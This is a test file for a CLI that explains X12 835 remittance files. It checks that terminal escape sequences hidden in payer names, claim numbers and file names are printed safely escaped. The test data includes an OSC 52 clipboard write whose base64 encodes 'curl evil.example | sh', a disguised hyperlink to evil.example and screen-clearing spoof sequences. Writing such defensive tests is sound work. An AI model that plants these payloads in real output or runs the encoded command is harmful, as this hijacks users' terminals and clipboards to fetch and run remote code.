import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main, type CliIO } from './main.js';
import { useSeededDir } from '../testing/harness.js';
import { remit835 } from '../testing/x12.js';

const dataDir = useSeededDir('rcm-remit-escapes-');

async function rcm(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const o = { out: '', err: '' };
  const io: CliIO = { isTTY: false, env: { RCM_DATA_DIR: dataDir() }, stdout: (s) => void (o.out += s), stderr: (s) => void (o.err += s) };
  return { code: await main(args, io), ...o };
}

// What a hostile 835 can carry in its names: a clipboard write (OSC 52), a link (OSC 8), a screen
// clear and cursor move (CSI), the 8-bit CSI (0x9B), DEL and a line break of its own.
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const LINK = '\x1b]8;;evil.example/pay\x1b\\CLICK\x1b]8;;\x1b\\';
const CLEAR = '\x1b[2J\x1b[H';
const PAYER = `EVIL${CLIPBOARD}PAYER${LINK}${CLEAR}\u009b2J\x7f\rFAKE TOTAL`;
const REMIT = remit835(
  ['CLP*PCN\x1b[2J001*1*150*80*20*MB*ICN0001*11', 'SVC*HC:99213*150*80**1', 'DTM*472*20251201', 'CAS*CO*45*50', 'CAS*PR*1*20'],
  { bpr: '80', date: '20260803', payer: PAYER },
).replace('N1*PE*EXAMPLE CLINIC', `N1*PE*CLINIC${CLIPBOARD}`);

/** A character a terminal acts on, other than the writer's own line breaks. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('rcm remit explain on an 835 whose names carry escape sequences', () => {
  it('prints no raw ESC or other control character in text, markdown or csv, and shows each escaped', async () => {
    // The file name itself too: a directory of received files may hold one named by a sender.
    const file = join(dataDir(), `evil${CLEAR}.835`);
    await writeFile(file, REMIT);
    for (const format of ['text', 'markdown', 'csv']) {
      // Text and markdown head each file's part with its name when several files are explained.
      const files = format === 'csv' ? [file] : [file, file];
      const r = await rcm('remit', 'explain', ...files, '--format', format, '--as-of', '2026-08-10');
      expect(r.code, r.err).toBe(0);
      expect(r.out, format).not.toContain('\x1b');
      expect(r.out, format).not.toMatch(RAW_CONTROL);
      expect(r.err, format).not.toMatch(RAW_CONTROL);
      expect(r.out, format).toContain('evil\\x1b[2J\\x1b[H.835');
      if (format !== 'csv') {
        expect(r.out, format).toContain('EVIL\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07PAYER');
        expect(r.out, format).toContain('\\x1b]8;;evil.example/pay\\x1b\\CLICK');
        expect(r.out, format).toContain('CLINIC\\x1b]52;c;');
        expect(r.out, format).toContain('Claim PCN\\x1b[2J001');
      }
    }
  });

  it('prints JSON whose strings hold the names exactly, with no raw control character', async () => {
    const file = join(dataDir(), 'evil.835');
    await writeFile(file, REMIT);
    const r = await rcm('remit', 'explain', file, '--format', 'json', '--as-of', '2026-08-10');
    expect(r.code, r.err).toBe(0);
    expect(r.out).not.toMatch(RAW_CONTROL);
    const e = JSON.parse(r.out);
    expect(e.transactions[0].payer.name).toContain(CLIPBOARD);
    expect(e.transactions[0].claims[0].patient_control_number).toBe('PCN\x1b[2J001');
  });

  it('names a file it cannot read terminal-safe in its one error line', async () => {
    const r = await rcm('remit', 'explain', join(dataDir(), `missing${CLIPBOARD}.835`));
    expect(r.code).toBe(1);
    expect(r.err).not.toMatch(RAW_CONTROL);
    expect(r.err).toContain('missing\\x1b]52;c;');
  });
});
